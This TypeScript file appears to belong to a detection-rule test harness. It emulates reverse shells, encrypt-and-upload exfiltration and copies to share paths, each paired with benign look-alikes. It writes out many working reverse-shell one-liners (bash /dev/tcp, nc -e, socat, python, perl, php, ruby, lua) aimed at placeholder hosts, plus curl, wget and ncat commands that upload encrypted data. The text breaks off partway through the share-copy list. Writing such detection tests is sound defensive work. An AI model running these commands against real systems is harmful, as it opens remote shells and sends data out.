// Process-behaviour variants: the other spellings of what the strategies' processes do (reverse
// shells, encryption and upload, copies to shares, sensor and audit tampering, starting virtual
// machines), run on the host, inside a container through `docker exec`, and as the container's own
// command; and the ordinary workloads that use the same tools. Windows variants carry generated
// Sysmon / PowerShell events, since no Windows host runs here.
//
// Conventions of the live steps (see docs/emulation.md): the busybox test image has no openssl,
// curl, gpg, ncat ...; the host's are bind-mounted read-only (`$HOSTBIN`) and run inside the
// container, so Linux audit attributes them to it. Tools this host does not have (VirtualBox,
// libvirt, firecracker, php, ruby, lua) are stand-ins: a copy of /usr/bin/true under the tool's
// name, because the detections read the process start, not what the tool then does.
import type { EmulationStep, Fixture } from '../live/format.js';
import type { Variant, VariantGenerator } from './types.js';

/** Rule ids the positive variants expect (any-of: the first is the one that must fire live). */
export const RULES = {
  reverseShell: 'e60950cb-37fa-4f00-ae84-5c8a38cda4b2',
  reverseShellExec: 'a3443d70-3180-48e3-a21d-e3ac84f84510',
  shellNoTty: '0f3b6a52-7c1e-4d8a-9b27-5e4c3d2a1f60',
  encryptUploadProc: '6cb8fc0d-b64b-436a-b40d-93b1ef541106',
  encryptUploadExec: '09c35da8-be3a-43b6-8e45-78f2d46fee65',
  copyShareExec: '2bc22cfd-b09b-4510-87ec-ea3b5d942fee',
  copyShareProc: '5b1d7e3a-2c4f-4a8b-9e61-3f0a7c5d2b18',
  mountShareProc: '8e2c4f61-0b3a-4d7e-a5c9-6f1e2d3b4a57',
  mountShareExec: '4d42bcf9-ccfd-4be2-8157-901357bf51c5',
  auditctl: '426db328-ab4e-4fee-96e3-089b6846a5c4',
  stopSensor: 'e73cfc7b-522c-4588-ae67-e7547f026e1d',
  auditConfig: 'b20b18a9-0458-4998-9dd7-a142d541b378',
  auditLogTamper: '3c9e7a14-5d2b-4f06-8a1e-9b4d6c2f7e05',
  qemuHeadless: '6d9080e1-55f9-460a-9698-d70c335564b5',
  vboxLinux: '3a24c9e0-d3bc-4e11-9e55-16c04d3e5d37',
  hypervisorCli: '7d4a2e90-3f1b-4c6d-8e5a-1b9c0f2d6a83',
  hypervProcess: '9f7fe58c-1001-421b-bc66-714e881feea2',
  hypervScript: 'fdb9927d-1dbe-44b7-8156-cbdbb88e9761',
  vboxWindows: '624befab-f4da-4c1d-a5a5-62160a89c14d',
} as const;

const HOSTBIN = '-v /usr:/usr:ro -v /lib:/lib:ro -v /lib64:/lib64:ro';

function step(run: string, where: 'host' | 'container' = 'host', extra: Partial<EmulationStep> = {}): EmulationStep {
  return { run, where, timeout_s: 30, allow_failure: false, ...extra };
}

/** A step whose tool may exit non-zero (no server, stand-in arguments): its start is the point. */
function tryStep(run: string, where: 'host' | 'container' = 'host'): EmulationStep {
  return step(run, where, { allow_failure: true, timeout_s: 15 });
}

/** A long-lived container with the host's tools mounted, for `docker exec` variants. */
function container(opts: { network?: boolean; mounts?: string; labels?: string } = {}): EmulationStep {
  const net = opts.network ? '--network "$NETWORK"' : '--network none';
  return step(`docker run -d $LABELS ${opts.labels ?? ''} --name "$MARK" ${net} ${HOSTBIN} ${opts.mounts ?? ''} "$IMAGE" sleep 120`);
}

/**
 * The container's own command: busybox `/bin/sh -c SCRIPT arg0 arg1 ...` (positional args carry host
 * values). The path matters: with the host's /usr mounted, a bare `sh` would be the host's dash.
 */
function entrypoint(script: string, opts: { network?: boolean; mounts?: string; args?: string; labels?: string } = {}): EmulationStep {
  const net = opts.network ? '--network "$NETWORK"' : '--network none';
  return step(
    `docker run --rm $LABELS ${opts.labels ?? ''} --name "$MARK" ${net} ${HOSTBIN} ${opts.mounts ?? ''} "$IMAGE" /bin/sh -c ${shq(script)} ${opts.args ?? ''}`,
    'container',
    { allow_failure: true, timeout_s: 30 },
  );
}

function exec(cmd: string): EmulationStep {
  return step(`docker exec "$MARK" ${cmd}`, 'container', { allow_failure: true, timeout_s: 15 });
}

/** Single-quotes a string for bash. */
export function shq(s: string): string {
  return `'${s.replace(/'/g, `'\\''`)}'`;
}

const standin = (name: string): EmulationStep => step(`bash "$SCRIPTS/standin.sh" ${name} "$WORK/bin" >/dev/null`);

interface Spec {
  id: string;
  kind: 'positive' | 'benign';
  family: string;
  technique?: string;
  description: string;
  expect?: string[];
  needs?: Fixture[];
  setup?: EmulationStep[];
  steps?: EmulationStep[];
  cleanup?: EmulationStep[];
  events?: Variant['events'];
}

function variants(strategy: string, specs: Spec[]): Variant[] {
  return specs.map((s) => ({
    strategy,
    id: `proc-${s.id}`,
    kind: s.kind,
    family: s.family,
    ...(s.technique ? { technique: s.technique } : {}),
    description: s.description,
    expect: s.kind === 'positive' ? (s.expect ?? []) : [],
    ...(s.steps
      ? {
          live: {
            ...(s.needs ? { needs: s.needs } : {}),
            ...(s.setup ? { setup: s.setup } : {}),
            steps: s.steps,
            ...(s.cleanup ? { cleanup: s.cleanup } : {}),
          },
        }
      : {}),
    ...(s.events ? { events: s.events } : {}),
  }));
}

// ---------------------------------------------------------------- ADS-0003 reverse shells

const L = '"$LISTEN_HOST" "$LISTEN_PORT"';

function reverseShells(): Variant[] {
  const rs = [RULES.reverseShell];
  const T = 'T1059.004';
  return variants('ADS-0003', [
    {
      id: 'rs-busybox-nc-bare-sh',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: [RULES.reverseShell, RULES.reverseShellExec],
      needs: ['listener'],
      description: 'busybox nc through docker exec, -e with a bare `sh` (no path), host and port first.',
      steps: [container({ network: true }), exec(`/bin/nc ${L} -e sh`)],
    },
    {
      id: 'rs-ncat-exec-entrypoint',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: "The container's own command is `ncat --exec /bin/sh HOST PORT` (long option, no docker exec).",
      steps: [entrypoint('/usr/bin/ncat --exec /bin/sh "$0" "$1"', { network: true, args: L })],
    },
    {
      id: 'rs-ncat-flag-group',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'ncat on the host with -e inside a flag group: `ncat -nve /bin/bash HOST PORT`.',
      steps: [tryStep(`timeout 5 ncat -nve /bin/bash ${L}`)],
    },
    {
      id: 'rs-ncat-sh-exec',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'ncat -c (--sh-exec) running `sh -i` through /bin/sh.',
      steps: [tryStep(`timeout 5 ncat -c "sh -i" ${L}`)],
    },
    {
      id: 'rs-socat-exec',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'socat joining a TCP connection to EXEC:/bin/sh with a pty.',
      steps: [tryStep('timeout 5 socat TCP:"$LISTEN_HOST":"$LISTEN_PORT" EXEC:/bin/sh,pty,stderr,setsid')],
    },
    {
      id: 'rs-socat-system-lower',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'socat in a container, lower-case address types: tcp-connect:HOST:PORT system:sh.',
      steps: [entrypoint('/usr/bin/socat tcp-connect:"$0":"$1" system:sh', { network: true, args: L })],
    },
    {
      id: 'rs-devtcp-fd5',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: [RULES.reverseShell, RULES.shellNoTty],
      needs: ['listener'],
      description: 'A shell on file descriptor 5 opened to /dev/tcp: `sh -i 5<> /dev/tcp/H/P 0<&5 1>&5 2>&5`.',
      steps: [tryStep('timeout 5 bash -c "sh -i 5<> /dev/tcp/$LISTEN_HOST/$LISTEN_PORT 0<&5 1>&5 2>&5"')],
    },
    {
      id: 'rs-bash-devtcp-entrypoint',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: "The container's own command: bash -c 'bash -i >& /dev/tcp/H/P 0>&1' (bash from the host mount).",
      steps: [entrypoint('/usr/bin/bash -c "bash -i >& /dev/tcp/$0/$1 0>&1"', { network: true, args: L })],
    },
    {
      id: 'rs-fifo-nc',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: [RULES.reverseShell, RULES.shellNoTty],
      needs: ['listener'],
      description: 'Named-pipe shell in a container: mkfifo, cat | sh -i | nc back into the pipe.',
      steps: [entrypoint('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | /bin/nc "$0" "$1" > /tmp/f', { network: true, args: L })],
    },
    {
      id: 'rs-mknod-pipe-telnet',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'Named pipe made with `mknod p` and busybox telnet as the client.',
      steps: [entrypoint('mknod /tmp/p p && telnet "$0" "$1" 0</tmp/p | sh 1>/tmp/p', { network: true, args: L })],
    },
    {
      id: 'rs-python-pty',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'python3 one-liner: socket, dup2 onto 0/1/2, pty.spawn a shell.',
      steps: [
        tryStep(
          `timeout 5 /usr/bin/python3 -c 'import socket,os,pty,sys;s=socket.socket();s.connect((sys.argv[1],int(sys.argv[2])));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")' ${L}`,
        ),
      ],
    },
    {
      id: 'rs-perl-socket',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'perl one-liner: Socket, STDIN/STDOUT/STDERR onto the socket, exec /bin/sh -i.',
      steps: [
        tryStep(
          `timeout 5 perl -e 'use Socket;$i=$ARGV[0];$p=$ARGV[1];socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' ${L}`,
        ),
      ],
    },
    {
      id: 'rs-php-fsockopen',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      description: 'php -r with fsockopen and exec of /bin/sh (php is a stand-in: the process start is what is read).',
      steps: [standin('php'), tryStep(`"$WORK/bin/php" -r '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`)],
    },
    {
      id: 'rs-ruby-tcpsocket',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      description: 'ruby -rsocket with TCPSocket and IO.popen (stand-in ruby).',
      steps: [
        standin('ruby'),
        tryStep(`"$WORK/bin/ruby" -rsocket -e 'c=TCPSocket.new("10.0.0.1","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`),
      ],
    },
    {
      id: 'rs-awk-inet',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      description: "awk's /inet/tcp special file with the co-process operator |& (gawk syntax; mawk refuses it, the start is recorded).",
      steps: [
        tryStep(
          `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) { do{ printf "> " |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' </dev/null`,
        ),
      ],
    },
    {
      id: 'rs-lua-socket',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      description: "lua with require('socket') and os.execute of a shell (stand-in lua).",
      steps: [
        standin('lua5.3'),
        tryStep(`"$WORK/bin/lua5.3" -e "local s=require('socket');local t=assert(s.tcp());t:connect('10.0.0.1',4444);os.execute('/bin/sh -i <&3 >&3 2>&3')"`),
      ],
    },
    {
      id: 'rs-busybox-selfexe-nc',
      kind: 'positive',
      family: 'multi-call',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'busybox nc re-executed through /proc/self/exe (as busybox sh runs applets): the kernel names it `exe`.',
      steps: [entrypoint('exec -a nc /proc/self/exe "$0" "$1" -e /bin/sh', { network: true, args: L })],
    },
    {
      id: 'rs-busybox-applet-arg',
      kind: 'positive',
      family: 'multi-call',
      technique: T,
      expect: [RULES.reverseShell, RULES.reverseShellExec],
      needs: ['listener'],
      description: '`busybox nc HOST PORT -e /bin/ash` through docker exec: the applet is the first argument.',
      steps: [container({ network: true }), exec(`busybox nc ${L} -e /bin/ash`)],
    },
    // ordinary workloads that use the same tools
    {
      id: 'port-probe-devtcp',
      kind: 'benign',
      family: 'reverse-shell',
      needs: ['listener'],
      description: "docker-compose style healthcheck: bash -c '</dev/tcp/db/5432' only opens and closes the port.",
      steps: [tryStep('timeout 5 bash -c "</dev/tcp/$LISTEN_HOST/$LISTEN_PORT"')],
    },
    {
      id: 'http-probe-devtcp',
      kind: 'benign',
      family: 'reverse-shell',
      needs: ['listener'],
      description: 'Image without curl: an HTTP healthcheck over exec 3<>/dev/tcp, writing a request and reading the answer.',
      steps: [
        tryStep(`timeout 5 bash -c 'exec 3<>/dev/tcp/$LISTEN_HOST/$LISTEN_PORT; printf "GET /health HTTP/1.0\\r\\n\\r\\n" >&3; timeout 1 cat <&3 >/dev/null'`),
      ],
    },
    {
      id: 'wait-for-port-nc',
      kind: 'benign',
      family: 'reverse-shell',
      needs: ['listener'],
      description: 'wait-for-it style start script in a container: `nc -z -w 2 db 5432` until the database answers.',
      steps: [entrypoint('for i in 1 2 3; do /bin/nc -z -w 2 "$0" "$1" && break; sleep 1; done; echo ready', { network: true, args: L })],
    },
    {
      id: 'python-socket-healthcheck',
      kind: 'benign',
      family: 'reverse-shell',
      needs: ['listener'],
      description: 'A Python service healthcheck: socket.create_connection to its dependency, then close.',
      steps: [tryStep(`timeout 5 /usr/bin/python3 -c 'import socket,sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 2).close()' ${L}`)],
    },
    {
      id: 'socat-port-forward',
      kind: 'benign',
      family: 'reverse-shell',
      description: 'socat as a TCP forwarding sidecar (TCP-LISTEN,fork to TCP:backend), stopped after a second.',
      steps: [tryStep('timeout 1 socat TCP-LISTEN:0,bind=127.0.0.1,fork TCP:127.0.0.1:9')],
    },
    {
      id: 'nginx-log-fifo',
      kind: 'benign',
      family: 'reverse-shell',
      description: 'A log forwarder pattern: mkfifo a pipe the app logs into and a reader that copies it to stdout.',
      steps: [entrypoint('mkfifo /tmp/access.log && (cat /tmp/access.log > /dev/null &) && echo "GET / 200" > /tmp/access.log; sleep 1')],
    },
  ]);
}

// ---------------------------------------------------------------- ADS-0005 encryption and upload

const DATA_SETUP = [step('mkdir -p "$WORK/data" && printf "id,card\\n1,4111111111111111\\n" > "$WORK/data/customers.csv"')];
const DATA = '-v "$WORK:/w:ro" -v "$WORK/data:/mnt/data"';

interface Cipher {
  id: string;
  cmd: string;
  out: string;
  text: string;
}
interface Upload {
  id: string;
  cmd: (file: string) => string;
  text: string;
}

const CIPHERS: Cipher[] = [
  {
    id: 'chacha20',
    cmd: '/usr/bin/openssl enc -chacha20 -pbkdf2 -pass pass:x -in /mnt/data/customers.csv -out /tmp/c.bin',
    out: '/tmp/c.bin',
    text: 'openssl enc -chacha20',
  },
  {
    id: 'aes-shorthand',
    cmd: '/usr/bin/openssl aes-128-cbc -pbkdf2 -k x -in /mnt/data/customers.csv -out /tmp/c.bin',
    out: '/tmp/c.bin',
    text: 'the openssl aes-128-cbc shorthand',
  },
  { id: 'des3', cmd: '/usr/bin/openssl des3 -pbkdf2 -pass pass:x -in /mnt/data/customers.csv -out /tmp/c.bin', out: '/tmp/c.bin', text: 'openssl des3' },
  {
    id: 'camellia',
    cmd: '/usr/bin/openssl enc -e -camellia-256-cbc -pbkdf2 -pass pass:x -in /mnt/data/customers.csv -out /tmp/c.bin',
    out: '/tmp/c.bin',
    text: 'openssl enc -e -camellia-256-cbc',
  },
  {
    id: 'cms',
    cmd: '/usr/bin/openssl cms -encrypt -aes256 -binary -in /mnt/data/customers.csv -out /tmp/c.bin -outform DER /w/cert.pem',
    out: '/tmp/c.bin',
    text: 'openssl cms -encrypt to a certificate',
  },
  {
    id: 'gpg-c',
    cmd: 'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x -o /tmp/c.bin -c /mnt/data/customers.csv',
    out: '/tmp/c.bin',
    text: 'gpg -c',
  },
  {
    id: 'gpg-symmetric',
    cmd: 'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x --cipher-algo AES256 -o /tmp/c.bin --symmetric /mnt/data/customers.csv',
    out: '/tmp/c.bin',
    text: 'gpg --symmetric --cipher-algo AES256',
  },
  {
    id: 'gpg-flag-group',
    cmd: 'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x -o /tmp/c.bin -ac /mnt/data/customers.csv',
    out: '/tmp/c.bin',
    text: 'gpg -ac (armor and symmetric in one flag group)',
  },
  { id: 'zip-p', cmd: 'cd /tmp && /usr/bin/zip -q -P x c.zip /mnt/data/customers.csv', out: '/tmp/c.zip', text: 'zip -P' },
  { id: 'zip-password', cmd: 'cd /tmp && /usr/bin/zip -q --password x c.zip /mnt/data/customers.csv', out: '/tmp/c.zip', text: 'zip --password' },
  { id: '7z-p', cmd: '/usr/lib/p7zip/7z a -bd -pSecret -mhe=on /tmp/c.7z /mnt/data/customers.csv >/dev/null', out: '/tmp/c.7z', text: '7z a -p -mhe=on' },
  {
    id: 'age',
    cmd: '/usr/bin/age-keygen -o /tmp/k 2>/dev/null && /usr/bin/age -e -i /tmp/k -o /tmp/c.bin /mnt/data/customers.csv',
    out: '/tmp/c.bin',
    text: 'age -e to a generated identity',
  },
  { id: 'ccrypt', cmd: 'cp /mnt/data/customers.csv /tmp/c && /usr/bin/ccrypt -e -K x /tmp/c', out: '/tmp/c.cpt', text: 'ccrypt -e -K' },
];

const UPLOADS: Upload[] = [
  { id: 'curl-t', cmd: (f) => `/usr/bin/curl -sk -T ${f} "$0"`, text: 'curl -T' },
  { id: 'curl-form', cmd: (f) => `/usr/bin/curl -sk -F "file=@${f}" "$0"`, text: 'curl -F file=@' },
  { id: 'curl-data-binary', cmd: (f) => `/usr/bin/curl -sk --data-binary @${f} "$0"`, text: 'curl --data-binary @' },
  { id: 'curl-put-upload', cmd: (f) => `/usr/bin/curl -skX PUT --upload-file ${f} "$0"`, text: 'curl -X PUT --upload-file' },
  { id: 'curl-flag-group', cmd: (f) => `/usr/bin/curl -skT ${f} "$0"`, text: 'curl -skT (flag group)' },
  { id: 'curl-json', cmd: (f) => `/usr/bin/curl -sk --json @${f} "$0"`, text: 'curl --json @' },
  { id: 'bb-wget', cmd: (f) => `/bin/wget --post-file ${f} --no-check-certificate -q -O /dev/null "$0"`, text: 'busybox wget --post-file' },
  {
    id: 'bb-wget-selfexe',
    cmd: (f) => `(exec -a wget /proc/self/exe --post-file ${f} --no-check-certificate -q -O /dev/null "$0")`,
    text: 'busybox wget through /proc/self/exe',
  },
  {
    id: 'gnu-wget-put',
    cmd: (f) => `/usr/bin/wget -q --no-check-certificate --method=PUT --body-file=${f} -O /dev/null "$0"`,
    text: 'GNU wget --method=PUT --body-file',
  },
  { id: 'ncat-ssl', cmd: (f) => `/usr/bin/ncat --ssl --send-only "$1" "$2" < ${f}`, text: 'ncat --ssl --send-only' },
  { id: 'curl-urlencode', cmd: (f) => `/usr/bin/curl -sk --data-urlencode "f@${f}" "$0"`, text: 'curl --data-urlencode name@file' },
  {
    id: 'python-put',
    cmd: (f) =>
      `/usr/bin/python3 -c "import urllib.request as u,ssl,sys; u.urlopen(u.Request(sys.argv[1], data=open(sys.argv[2],'rb').read(), method='PUT'), context=ssl._create_unverified_context())" "$0" ${f}`,
    text: 'python3 urllib Request(data=..., method=PUT)',
  },
  { id: 'socat-openssl', cmd: (f) => `/usr/bin/socat -u FILE:${f} OPENSSL:"$1":"$2",verify=0`, text: 'socat FILE: to OPENSSL:' },
  { id: 'bb-nc', cmd: (f) => `/bin/nc "$1" "$2" < ${f}`, text: 'busybox nc with the file on stdin' },
];

const HTTPS_ARGS = '"$HTTPS_URL" "$HTTPS_HOST" "$HTTPS_PORT"';
const CERT_SETUP = step(
  'cp "$HTTPS_CERT" "$WORK/cert.pem" 2>/dev/null || openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=x -keyout "$WORK/key.pem" -out "$WORK/cert.pem" -days 1 2>/dev/null',
);

function exfiltration(): Variant[] {
  const pairs: Array<[Cipher, Upload]> = [];
  // every cipher and every upload at least once, each twice in all
  for (let i = 0; i < 25; i++) pairs.push([CIPHERS[i % CIPHERS.length]!, UPLOADS[(i * 5 + 3) % UPLOADS.length]!]);
  const T = 'T1048.001';
  const positives: Spec[] = pairs.map(([c, u], i) => {
    const viaExec = i % 2 === 1;
    const id = `exf-${c.id}-${u.id}${viaExec ? '-exec' : ''}`.slice(0, 36);
    const description = `${viaExec ? 'Through docker exec' : "As the container's own command"}: ${c.text}, then ${u.text} to the HTTPS target.`;
    if (!viaExec) {
      return {
        id,
        kind: 'positive',
        family: 'cipher',
        technique: T,
        expect: [RULES.encryptUploadProc],
        needs: ['https'],
        description,
        setup: [...DATA_SETUP, CERT_SETUP],
        steps: [entrypoint(`${c.cmd} && ${u.cmd(c.out)}; sleep 1`, { network: true, mounts: DATA, args: HTTPS_ARGS })],
      };
    }
    return {
      id,
      kind: 'positive',
      family: 'cipher',
      technique: T,
      expect: [RULES.encryptUploadProc, RULES.encryptUploadExec],
      needs: ['https'],
      description,
      setup: [...DATA_SETUP, CERT_SETUP],
      steps: [container({ network: true, mounts: DATA }), exec(`sh -c ${shq(c.cmd)}`), exec(`sh -c ${shq(u.cmd(c.out))} ${HTTPS_ARGS}`)],
    };
  });
  const benign: Spec[] = (
    [
      {
        id: 'backup-openssl-local',
        description: 'Nightly backup container: tar the app data and encrypt it with openssl enc into its own backup volume; nothing leaves.',
        steps: [
          entrypoint('tar -cf /tmp/a.tar -C /mnt/data . && /usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /tmp/a.tar -out /backup/a.tar.enc', {
            mounts: '-v "$WORK/data:/mnt/data:ro" -v "$WORK/backup:/backup"',
          }),
        ],
        setup: [...DATA_SETUP, step('mkdir -p "$WORK/backup"')],
      },
      {
        id: 'backup-gpg-local',
        description: 'Database dump encrypted with gpg --symmetric to a local backup directory (documented pg_dump | gpg -c pattern).',
        steps: [
          entrypoint(
            'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase b -o /backup/dump.gpg --symmetric /mnt/data/customers.csv',
            { mounts: '-v "$WORK/data:/mnt/data:ro" -v "$WORK/backup:/backup"' },
          ),
        ],
        setup: [...DATA_SETUP, step('mkdir -p "$WORK/backup"')],
      },
      {
        id: 'ci-publish-report',
        needs: ['https'] as Fixture[],
        description: 'CI job publishes an unencrypted test report with curl -T.',
        setup: DATA_SETUP,
        steps: [entrypoint('/usr/bin/curl -sk -T /mnt/data/customers.csv "$0"', { network: true, mounts: DATA, args: HTTPS_ARGS })],
      },
      {
        id: 'decrypt-config-then-report',
        needs: ['https'],
        description: 'A deploy job decrypts its config with openssl enc -d, then posts an unencrypted status report (curl -F).',
        // the "encrypted config" is random bytes: encrypting it on the host here would be an encryption of its own
        setup: [...DATA_SETUP, step('head -c 64 /dev/urandom > "$WORK/data/config.enc"')],
        steps: [
          entrypoint(
            '/usr/bin/openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:k -in /mnt/data/config.enc -out /tmp/config 2>/dev/null; /usr/bin/curl -sk -F "report=@/mnt/data/customers.csv" "$0"',
            { network: true, mounts: DATA, args: HTTPS_ARGS },
          ),
        ],
      },
      {
        id: 'base64-encode-then-post',
        needs: ['https'],
        description: 'openssl enc -base64 (an encoding, no cipher) of a certificate, then an API call with --data-binary @.',
        setup: DATA_SETUP,
        steps: [
          entrypoint('/usr/bin/openssl enc -base64 -in /mnt/data/customers.csv -out /tmp/b64 && /usr/bin/curl -sk --data-binary @/tmp/b64 "$0"', {
            network: true,
            mounts: DATA,
            args: HTTPS_ARGS,
          }),
        ],
      },
      {
        id: 'encrypt-then-download',
        needs: ['https'],
        description: 'Backup encrypts locally, then fetches its next schedule with a plain curl GET (no upload).',
        setup: DATA_SETUP,
        steps: [
          entrypoint(
            '/usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /mnt/data/customers.csv -out /tmp/c.enc && /usr/bin/curl -sk -o /dev/null "$0"',
            { network: true, mounts: DATA, args: HTTPS_ARGS },
          ),
        ],
      },
      {
        id: 'encrypt-then-webhook',
        needs: ['https'],
        description: 'Backup encrypts locally, then notifies a chat webhook with an inline JSON body (curl -d literal, no file).',
        setup: DATA_SETUP,
        steps: [
          entrypoint(
            '/usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /mnt/data/customers.csv -out /tmp/c.enc && /usr/bin/curl -sk -H "Content-Type: application/json" -d "{\\"text\\":\\"backup done\\"}" "$0"',
            { network: true, mounts: DATA, args: HTTPS_ARGS },
          ),
        ],
      },
      {
        id: 'encrypt-then-port-wait',
        needs: ['https'],
        description: 'Backup encrypts locally, then waits for the database port with nc -z (zero-I/O scan mode).',
        setup: DATA_SETUP,
        steps: [
          entrypoint('/usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /mnt/data/customers.csv -out /tmp/c.enc && /bin/nc -z -w 2 "$1" "$2"', {
            network: true,
            mounts: DATA,
            args: HTTPS_ARGS,
          }),
        ],
      },
      {
        id: 'wget-artifact-download',
        needs: ['https'],
        description: 'Build step downloads an artefact with wget -O and checks it with sha256sum.',
        steps: [entrypoint('/bin/wget --no-check-certificate -q -O /tmp/a "$0"; sha256sum /tmp/a || true', { network: true, args: HTTPS_ARGS })],
      },
      {
        id: 'nginx-selfsigned-cert',
        description: 'nginx entrypoint generates a self-signed certificate (openssl req -x509 -newkey) and a digest.',
        steps: [
          entrypoint(
            '/usr/bin/openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=localhost -keyout /tmp/k.pem -out /tmp/c.pem -days 1 2>/dev/null && /usr/bin/openssl dgst -sha256 /tmp/c.pem',
          ),
        ],
      },
      {
        id: 'zip-artifact-upload',
        needs: ['https'],
        description: 'CI packages build output with zip (no password) and uploads it with curl -T.',
        setup: DATA_SETUP,
        steps: [
          entrypoint('cd /tmp && /usr/bin/zip -q -r site.zip /mnt/data && /usr/bin/curl -sk -T /tmp/site.zip "$0"', {
            network: true,
            mounts: DATA,
            args: HTTPS_ARGS,
          }),
        ],
      },
      {
        id: '7z-archive-upload',
        needs: ['https'],
        description: 'Log archiver compresses with 7z (no password) and uploads over HTTPS.',
        setup: DATA_SETUP,
        steps: [
          entrypoint('/usr/lib/p7zip/7z a -bd /tmp/logs.7z /mnt/data >/dev/null && /usr/bin/curl -sk -T /tmp/logs.7z "$0"', {
            network: true,
            mounts: DATA,
            args: HTTPS_ARGS,
          }),
        ],
      },
      {
        id: 'gpg-verify-download',
        needs: ['https'],
        description: 'Installer downloads a release and verifies it with gpg --verify (fails without a signature; the check is the point).',
        steps: [
          entrypoint('/usr/bin/curl -sk -o /tmp/r "$0"; mkdir -p /tmp/g; /usr/bin/gpg --homedir /tmp/g --batch --verify /tmp/r 2>/dev/null; true', {
            network: true,
            args: HTTPS_ARGS,
          }),
        ],
      },
      {
        id: 'cert-expiry-probe',
        needs: ['https'],
        description: 'Monitoring probe: openssl rand for a nonce, then openssl s_client -connect to read the certificate expiry.',
        steps: [
          entrypoint(
            '/usr/bin/openssl rand -hex 8 >/dev/null && echo | /usr/bin/openssl s_client -connect "$1:$2" -servername x 2>/dev/null | /usr/bin/openssl x509 -noout -enddate',
            { network: true, args: HTTPS_ARGS },
          ),
        ],
      },
      {
        id: 'wget-healthcheck',
        needs: ['https'],
        description: 'Container healthcheck with busybox wget --spider, after an encrypted local backup.',
        setup: DATA_SETUP,
        steps: [
          entrypoint(
            '/usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /mnt/data/customers.csv -out /tmp/c.enc && /bin/wget -q --spider --no-check-certificate "$0" || true',
            { network: true, mounts: DATA, args: HTTPS_ARGS },
          ),
        ],
      },
    ] as Array<Omit<Spec, 'kind' | 'family'>>
  ).map((b): Spec => ({ ...b, kind: 'benign', family: 'cipher' }));
  return variants('ADS-0005', [...positives, ...benign]);
}

// ---------------------------------------------------------------- ADS-0001 copies to share paths

function shareCopies(): Variant[] {
  const T = 'T1039';
  const SHARE = '-v "$WORK/share:/mnt/admin/share" -v "$WORK/data:/srv/data:ro"';
  const setup = [step('mkdir -p "$WORK/share" "$WORK/data" && echo secret > "$WORK/data/sensitive.txt"')];
  const proc: string[] = [RULES.copyShareProc];
  const pos = (id: string, description: string, steps: EmulationStep[], expect = proc, mounts = SHARE): Spec => ({
    id,
    kind: 'positive',
    family: 'share-copy',
    technique: T,
    expect,
    description,
    setup,
    steps: steps.length ? steps : [entrypoint('true', { mounts })],
  });
  const m = (extra: string) => `${SHARE} ${extra}`;
  return variants('ADS-0001', [
    pos('share-cp-entrypoint', "The container's own command copies data into the mounted share (sh -c 'cp ...').", [
      entrypoint('cp /srv/data/sensitive.txt /mnt/admin/share/; sleep 1', { mounts: SHARE }),
    ]),
    pos('share-cp-selfexe', 'busybox cp re-executed through /proc/self/exe, as busybox sh runs applets: the kernel names it exe.', [
      entrypoint('(exec -a cp /proc/self/exe /srv/data/sensitive.txt /mnt/admin/share/x); sleep 1', { mounts: SHARE }),
    ]),
    pos(
      'share-cp-target-dir',
      'docker exec cp -t /media/nas DIR (target given first with -t).',
      [container({ mounts: m('-v "$WORK/share:/media/nas"') }), exec('cp -t /media/nas /srv/data/sensitive.txt')],
      [RULES.copyShareProc, RULES.copyShareExec],
    ),
    pos('share-tar-to-nfs', "The container's command archives the data straight onto an NFS-style path with tar -cf.", [
